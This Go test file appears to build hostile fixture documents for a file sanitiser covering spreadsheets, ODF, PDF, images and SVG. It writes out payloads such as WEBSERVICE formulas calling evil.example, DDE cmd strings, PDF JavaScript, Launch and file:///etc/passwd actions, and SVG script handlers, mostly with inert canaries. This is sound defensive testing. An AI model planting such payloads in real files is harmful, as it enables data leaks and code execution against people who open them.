package clean_test

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
	"testing"
)

func hostileSheets(tb testing.TB) []sample {
	data := "<sheetData>" + cell("A1", "Zwei") + "</sheetData>"
	list := []sample{
		{"external-link.xlsx", "external", xlsxFile(tb, `<externalReferences><externalReference r:id="more0"/></externalReferences>`, formula("[1]Tabelle!A1"), data, "", "xl/externalLinks/externalLink1.xml", "<x>KANARI</x>")},
		{"connections.xlsx", "connection", xlsxFile(tb, "", "", data, "", "xl/connections.xml", "<x>KANARI</x>")},
		{"xlm.xlsx", "macrosheet", xlsxFile(tb, "", "", data, "", "xl/macrosheets/sheet9.xml", "<x>KANARI</x>")},
		{"macro.xlsm", "macro", xlsxFile(tb, "", "", data, "", "xl/vbaProject.bin", canary)},
		{"auto-open.xlsx", "name", xlsxFile(tb, `<definedNames><definedName name="_xlnm.Auto_Open">Eins!A1+0*LEN("KANARI")</definedName></definedNames>`, "", data, "")},
		{"hidden-sheet.xlsx", "hidden-sheet", xlsxFile(tb, `<definedNames><definedName name="X">Zwei!A1</definedName></definedNames>`, formula("Zwei!A1"), "<sheetData>"+cell("A1", canary)+"</sheetData>", `state="veryHidden"`)},
		{"hidden-row.xlsx", "hidden-row hidden-column", xlsxFile(tb, "", "", `<cols><col min="1" max="1" hidden="1"/></cols><sheetData><row hidden="1"><c r="A1"><v>1</v></c></row></sheetData>`, "")},
		{"strings.xlsx", "hidden-string", xlsxFile(tb, "", "", data, "", "xl/sharedStrings.xml", head+"<sst "+bookSpace+"><si><t>KANARI</t></si></sst>")},
		{"pivot.xlsx", "pivot", xlsxFile(tb, `<pivotCaches><pivotCache cacheId="1" r:id="more0"/></pivotCaches>`, "", data, "", "xl/pivotCache/p.xml", "<x>KANARI</x>")},
		{"scenario.xlsx", "scenario", xlsxFile(tb, "", "", data+`<scenarios><scenario name="KANARI" user="KANARI"/></scenarios>`, "")},
		{"validation.xlsx", "formula", xlsxFile(tb, "", "", data+`<dataValidations count="1"><dataValidation sqref="A1"><formula1>WEBSERVICE("https://evil.example/KANARI")</formula1></dataValidation></dataValidations>`, "")},
		{"sharing.xlsx", "person", xlsxFile(tb, `<fileSharing userName="KANARI"/>`, "", data, "")},
		{"all-hidden.xlsx", "!clean-empty", nil},
	}
	list[len(list)-1].data = pack(tb, "[Content_Types].xml", types(`xl/workbook.xml" ContentType="x`), "_rels/.rels", rels("officeDocument", "xl/workbook.xml"),
		"xl/workbook.xml", head+"<workbook "+bookSpace+`><sheets><sheet name="Eins" sheetId="1" r:id="rId1" state="hidden"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels", rels("worksheet", "worksheets/sheet1.xml"), "xl/worksheets/sheet1.xml", head+"<worksheet "+bookSpace+">"+data+"</worksheet>")
	for i, f := range []string{
		`WEBSERVICE("https://evil.example/KANARI")`, `_xlfn.WEBSERVICE ("KANARI")`, `HYPERLINK("https://evil.example/KANARI","x")`, `cmd|'/c KANARI'!A0`,
		`MSEXCEL|'\..\..\KANARI'!A0`, `'C:\KANARI\[a.xlsx]Tabelle1'!A1`, `'file:///KANARI'!A1`, `RTD("KANARI",,"x")`, `CALL("KANARI","x","JJ",1)`, `1+EXEC("KANARI")`,
		`_xll.KANARI(1)`, `IMAGE("https://evil.example/KANARI")`, `[KANARI.xlsx]Tabelle1!A1`,
	} {
		list = append(list, sample{fmt.Sprintf("formula-%d.xlsx", i), "formula", xlsxFile(tb, "", formula(f), data, "")})
	}
	return list
}

func hostileODF(tb testing.TB) []sample {
	hide := `<office:automatic-styles><style:style style:name="H" style:family="text"><style:text-properties text:display="none"/></style:style><style:style style:name="T" style:family="table"><style:table-properties table:display="false"/></style:style></office:automatic-styles>`
	return []sample{
		{"basic.odt", "macro", odtFile(tb, "", "", "Basic/Standard/Module1.xml", canary, "Scripts/python/x.py", canary)},
		{"script.odt", "macro", odtFile(tb, `<office:scripts><office:script script:language="KANARI">x</office:script></office:scripts>`, `<text:p><text:script script:language="JavaScript">KANARI</text:script></text:p>`)},
		{"listener.odt", "listener", odtFile(tb, "", `<text:p><draw:frame><office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:KANARI"/></office:event-listeners><draw:text-box/></draw:frame></text:p>`)},
		{"dde.odt", "dde", odtFile(tb, "", `<text:dde-connection-decls><text:dde-connection-decl office:dde-application="KANARI"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="KANARI">x</text:dde-connection></text:p>`)},
		{"section.odt", "external", odtFile(tb, "", `<text:section text:name="a"><text:section-source xlink:href="file:///KANARI"/><text:p>x</text:p></text:section>`)},
		{"picture.odt", "external", odtFile(tb, "", `<text:p><draw:frame><draw:image xlink:href="https://evil.example/KANARI.png"/></draw:frame></text:p>`)},
		{"ole.odt", "ole", odtFile(tb, "", `<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>`, "Object 1", canary)},
		{"object.odt", "ole", odtFile(tb, "", `<text:p><draw:frame><draw:object xlink:href="./Object 2"/></draw:frame></text:p>`, "Object 2/content.xml", head+"<office:document-content "+odfSpace+`><office:body><office:spreadsheet>KANARI</office:spreadsheet></office:body></office:document-content>`)},
		{"plugin.odt", "ole embedded", odtFile(tb, "", `<text:p><draw:frame><draw:plugin xlink:href="https://evil.example/KANARI"/></draw:frame><draw:frame><draw:floating-frame xlink:href="https://evil.example/KANARI"/></draw:frame></text:p>`)},
		{"link.odt", "link", odtFile(tb, "", `<text:p><text:a xlink:href="file:///KANARI">x</text:a> <text:a xlink:href="\\srv\KANARI">y</text:a></text:p>`)},
		{"comment.odt", "comment revision", odtFile(tb, "", `<text:tracked-changes><text:changed-region text:id="c1"><text:deletion><office:change-info><dc:creator>KANARI</dc:creator></office:change-info><text:p>KANARI</text:p></text:deletion></text:changed-region></text:tracked-changes><text:p><text:change text:change-id="c1"/><office:annotation><dc:creator>KANARI</dc:creator><text:p>KANARI</text:p></office:annotation>x</text:p>`)},
		{"hidden.odt", "hidden-text", odtFile(tb, hide, `<text:p><text:span text:style-name="H">KANARI</text:span></text:p><text:section text:display="none"><text:p>KANARI</text:p></text:section><text:p><text:hidden-text text:string-value="KANARI"/></text:p>`)},
		{"form.odt", "control", odtFile(tb, "", `<office:forms><form:form form:name="KANARI" xlink:href="https://evil.example"/></office:forms>`)},
		{"meta.odt", "author property path", odtFile(tb, "", "", "meta.xml", head+"<office:document-meta "+odfSpace+`><office:meta><meta:initial-creator>KANARI</meta:initial-creator><dc:creator>KANARI</dc:creator><meta:user-defined meta:name="x">KANARI</meta:user-defined><meta:template xlink:href="/home/KANARI/t.ott"/></office:meta></office:document-meta>`)},
		{"settings.odt", "printer", odtFile(tb, "", "", "settings.xml", head+"<office:document-settings "+odfSpace+`><office:settings><config:config-item-set config:name="ooo:configuration-settings"><config:config-item config:name="PrinterName" config:type="string">KANARI</config:config-item><config:config-item config:name="CurrentDatabaseDataSource" config:type="string">KANARI</config:config-item></config:config-item-set></office:settings></office:document-settings>`)},
		{"signature.odt", "signature versions thumbnail font", odtFile(tb, "", "", "META-INF/documentsignatures.xml", canary, "Versions/1", canary, "Thumbnails/thumbnail.png", canary, "Fonts/a.ttf", canary)},
		{"sheet.ods", "hidden-sheet", odsFile(tb, hide, `<table:table table:name="Geheim" table:style-name="T"><table:table-row><table:table-cell><text:p>KANARI</text:p></table:table-cell></table:table-row></table:table>`)},
		{"rows.ods", "hidden-row", odsFile(tb, "", `<table:table table:name="Z"><table:table-row table:visibility="collapse"><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row></table:table>`)},
		{"formula.ods", "formula", odsFile(tb, "", `<table:table table:name="Z"><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;KANARI&quot;)"><text:p>x</text:p></table:table-cell><table:table-cell table:formula="of:=['file:///KANARI.ods'#$A.A1]"/><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;KANARI&quot;;&quot;a&quot;)"/></table:table-row></table:table>`)},
		{"source.ods", "external", odsFile(tb, "", `<table:table table:name="Z"><table:table-source xlink:href="file:///KANARI.ods"/><table:table-row><table:table-cell/></table:table-row></table:table>`)},
		{"encrypted.odt", "!office-encrypted", pack(tb, "mimetype", "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml", head+`<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>`, "content.xml", "x")},
		{"mimetype.odt", "!clean-mimetype", odf(tb, "graphics", "", "<office:drawing/>")},
		{"mimetype-lies.odt", "!clean-mimetype", odf(tb, "text", "", "<office:spreadsheet/>")},
		{"slides.odp", "!office-unsupported", odf(tb, "presentation", "", "<office:presentation/>")},
	}
}

// deflated makes a stream object with a packed body.
func deflated(dict, body string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(body))
	_ = w.Close()
	return "stream " + dict + " /Filter /FlateDecode|" + b.String()
}

func hostilePDF(tb testing.TB) []sample {
	plain := page("", "")
	return []sample{
		{"javascript.pdf", "!pdf-active", page("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "")},
		{"hexname.pdf", "!pdf-active", page("/OpenAction << /S /Java#53cript /#4a#53 (app.alert(1)) >>", "")},
		{"object-stream.pdf", "!pdf-active", streamed("<< /S /JavaScript /JS (app.alert(1)) >>")},
		{"name-tree.pdf", "!pdf-active", page("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", "", "<< /S /GoTo >>")},
		{"launch.pdf", "!pdf-active", page("", "/Annots [<< /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]")},
		{"open-uri.pdf", "!pdf-active", page("/OpenAction << /S /URI /URI (https://evil.example) >>", "")},
		{"page-action.pdf", "!pdf-active", page("", "/AA << /O << /S /Named /N /Print >> >>")},
		{"attachment.pdf", "!pdf-active", page("/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", "", "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", "stream /Type /EmbeddedFile|MZ")},
		{"file-annotation.pdf", "!pdf-active", page("", "/Annots [<< /Type /Annot /Subtype /FileAttachment >>]")},
		{"xfa.pdf", "!pdf-active", page("/AcroForm << /XFA 5 0 R >>", "", "stream |<xdp/>")},
		{"submit.pdf", "!pdf-active", page("", "/Annots [<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >> >>]")},
		{"import.pdf", "!pdf-active", page("", "/Annots [<< /Subtype /Link /A << /S /ImportData /F (x) >> >>]")},
		{"richmedia.pdf", "!pdf-active", page("", "/Annots [<< /Type /Annot /Subtype /RichMedia >>]")},
		{"gotor.pdf", "!pdf-active", page("", `/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\srv\\\\x) >> >>]`)},
		{"gotoe.pdf", "!pdf-active", page("", "/Annots [<< /Subtype /Link /A << /S /GoToE >> >>]")},
		{"uri-file.pdf", "!pdf-active", page("", "/Annots [<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>]")},
		{"uri-script.pdf", "!pdf-active", page("", "/Annots [<< /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]")},
		{"stream-elsewhere.pdf", "!pdf-active", page("", "/Contents 5 0 R", "stream /F (https://evil.example)|x")},
		{"nobody-leads-there.pdf", "!pdf-active", page("", "", "<< /S /JavaScript /JS (x) >>")},
		{"chained.pdf", "!pdf-active", page("", "/Annots [<< /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >> >>]")},
		{"sound.pdf", "!pdf-active", page("", "/Annots [<< /Subtype /Sound >> << /Subtype /Movie >>]")},
		{"encrypted.pdf", "!office-encrypted", pdfFile("/Encrypt 3 0 R /ID [<00><00>]", "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>", "<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>")},
		{"truncated.pdf", "!office-damaged", []byte("%PDF-1.7\n1 0 obj\n<< /Type /Cat")},
		{"prefix.pdf", "!clean-polyglot", append([]byte("<html><script>KANARI</script>\n"), plain...)},
		{"tail.pdf", "pdf-tail", append(bytes.Clone(plain), "KANARI<script>"...)},
		{"update.pdf", "pdf-older", append(bytes.Clone(plain), updated(plain)...)},
		{"author.pdf", "pdf-author pdf-metadata", pdfFile("/Info 3 0 R", "<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>", "<< /Author (KANARI) /Producer (KANARI) /Title (Plan) >>", "stream /Type /Metadata /Subtype /XML|<dc:creator>KANARI</dc:creator>")},
		{"remark.pdf", "pdf-remark", page("", "/Annots [5 0 R]", "<< /Type /Annot /Subtype /Text /T (KANARI) /Contents (KANARI) >>")},
		{"camera.pdf", "pdf-metadata", page("", "/Resources << /XObject << /I 5 0 R >> >>", "stream /Type /XObject /Subtype /Image /Width 20 /Height 10 /Filter /DCTDecode|"+string(withSegment(jpegFile(tb), 0xe1, exif(1))))},
	}
}

// streamed is a PDF whose object 6 stands in a stream of objects.
func streamed(object string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	places := []int{}
	inner := "6 0 " + object
	for i, o := range []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
		"null", deflated("/Type /ObjStm /N 1 /First 4", inner),
	} {
		places = append(places, b.Len())
		if data, ok := strings.CutPrefix(o, "stream "); ok {
			dict, body, _ := strings.Cut(data, "|")
			o = fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(body), body)
		}
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	at := b.Len()
	table := []byte{0, 0, 0, 0}
	for _, place := range places {
		table = append(table, 1, byte(place>>8), byte(place), 0)
	}
	table = append(table, 2, 0, 5, 0) // object 6: the first in stream 5
	table = append(table, 1, byte(at>>8), byte(at), 0)
	fmt.Fprintf(&b, "7 0 obj\n<< /Type /XRef /Size 8 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", len(table), table, at)
	return b.Bytes()
}

// updated is a later version of the content of a page.
func updated(before []byte) string {
	start := bytes.LastIndex(before, []byte("startxref\n"))
	var prev int
	_, _ = fmt.Sscanf(string(before[start+len("startxref\n"):]), "%d", &prev)
	at := len(before)
	object := "4 0 obj\n<< /Length 6 >>\nstream\nBT  ET\nendstream\nendobj\n"
	return object + fmt.Sprintf("xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", at, prev, at+len(object))
}

func hostilePictures(tb testing.TB) []sample {
	return []sample{
		{"exif.jpg", "picture-exif picture-place", withSegment(jpegFile(tb), 0xe1, exif(6))},
		{"comment.jpg", "picture-note", withSegment(jpegFile(tb), 0xfe, canary)},
		{"xmp.jpg", "picture-note", withSegment(jpegFile(tb), 0xe1, "http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>KANARI")},
		{"tail.jpg", "picture-tail", append(jpegFile(tb), "PK\x03\x04KANARI"...)},
		{"text.png", "picture-note", withChunk(pngFile(tb), "tEXt", "Author\x00KANARI")},
		{"exif.png", "picture-exif", withChunk(pngFile(tb), "eXIf", exif(1)[6:])},
		{"tail.png", "picture-tail", append(pngFile(tb), "<script>KANARI</script>"...)},
		{"tail.gif", "picture-tail", append(gifFile(tb), canary...)},
		{"truncated.png", "!picture-damaged", pngFile(tb)[:60]},
		{"truncated.jpg", "!picture-damaged", jpegFile(tb)[:len(jpegFile(tb))/2]},
		{"lies.png", "picture-note", withSegment(jpegFile(tb), 0xfe, canary)},
		{"script.svg", "!clean-svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)},
		{"handler.svg", "!clean-svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)},
		{"foreign.svg", "!clean-svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>`)},
		{"fetch.svg", "!clean-svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/x.png"/></svg>`)},
		{"style.svg", "!clean-svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example"</style></svg>`)},
		{"entity.svg", "!office-doctype", []byte(`<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>`)},
	}
}

func hostileOthers(testing.TB) []sample {
	compound := func(stream string) []byte {
		b := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 1000)...)
		for _, r := range stream + "\x00" {
			b = append(b, byte(r), 0)
		}
		return b
	}
	return []sample{
		{"locked.docx", "!office-encrypted", compound("EncryptedPackage")}, {"old.doc", "!office-legacy", compound("WordDocument")},
		{"old.xls", "!office-legacy", compound("Workbook")}, {"old.ppt", "!office-legacy", compound("PowerPoint Document")},
		{"old.rtf", "!office-legacy", []byte(`{\rtf1 x}`)}, {"page.mht", "!clean-unknown", []byte("MIME-Version: 1.0\nContent-Type: multipart/related\n")},
		{"program.exe", "!clean-unknown", []byte("MZ\x90\x00")}, {"page.html", "!clean-unknown", []byte("<html><script>x</script>")},
		{"page.txt", "!clean-polyglot", []byte("  <html><script>x</script>")}, {"turned.txt", "!clean-text", []byte("abc\u202etxt.exe")},
		{"latin1.csv", "!clean-text", []byte("Gr\xf6\xdfe;1")}, {"nul.md", "!clean-text", []byte("a\x00b")},
		{"flat.fodt", "!office-unsupported", []byte(`<?xml version="1.0"?><office:document xmlns:office="x"/>`)}, {"empty.docx", "!clean-unknown", nil},
	}
}
